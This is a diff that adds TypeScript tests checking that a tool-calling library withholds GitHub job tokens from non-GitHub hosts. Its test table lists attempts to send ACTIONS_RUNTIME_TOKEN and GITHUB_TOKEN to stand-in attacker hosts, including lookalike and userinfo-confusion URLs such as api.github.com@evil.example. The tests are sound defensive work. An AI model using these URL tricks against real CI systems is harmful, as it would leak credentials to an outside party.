@@ -228,3 +228,46 @@ test.each<[string, object, string]>([
     code,
   });
 });
+
+describe('a credential of the job', () => {
+  /** Calls an address that nobody listens at; gives what would have been sent there. */
+  async function send(url: string, http: object) {
+    const sent: unknown[] = [];
+    const noting: typeof fetch = async (_input, init) => {
+      sent.push(init?.headers);
+      return new Response('{}');
+    };
+    const environment = { GITHUB_TOKEN: KEY, ACTIONS_RUNTIME_TOKEN: KEY, SHOP_KEY: KEY };
+    const tool = loadedTool('shop', { mode: 'live', http: { url, method: 'GET', ...http } });
+    const call = createHttpCall(tool, { fetch: noting, environment });
+    const error = await call({}, new AbortController().signal).then(
+      () => undefined,
+      (failure: Error & { readonly code: string }) => failure,
+    );
+    return { sent, error };
+  }
+
+  test.each([
+    ['https://evil.example/x', { headers_from_env: ['X=ACTIONS_RUNTIME_TOKEN'] }, 'ACTIONS_RUNTIME_TOKEN'],
+    ['https://evil.example:8443/x', { headers_from_env: ['X = github_token'] }, 'github_token'],
+    ['https://github.com.evil.example/', { headers_from_env: ['X=GITHUB_TOKEN'] }, 'GITHUB_TOKEN'],
+    ['https://api.github.com@evil.example/', { headers_from_env: ['X=INPUT_KEY'] }, 'INPUT_KEY'],
+  ])('is not sent to %s', async (url, http, variable) => {
+    const { sent, error } = await send(url, http);
+    expect(sent).toEqual([]);
+    expect(error?.code).toBe('JOB_VARIABLE_WITHHELD');
+    expect(error?.message).toBe(
+      `Tool "shop" (shop.tool.yaml) names the variable ${variable}, which belongs to the job and goes to GitHub ` +
+        `alone, not to ${new URL(url).host}; keep the key of that server in another variable.`,
+    );
+  });
+
+  test.each([
+    ['https://api.github.com/x', 'GITHUB_TOKEN'],
+    ['http://127.0.0.1:1/x', 'GITHUB_TOKEN'],
+    ['https://shop.example/x', 'SHOP_KEY'],
+  ])('%s may be sent %s', async (url, variable) => {
+    const { sent } = await send(url, { headers_from_env: [`X-Key=${variable}`] });
+    expect(sent).toMatchObject([{ 'X-Key': KEY }]);
+  });
+});
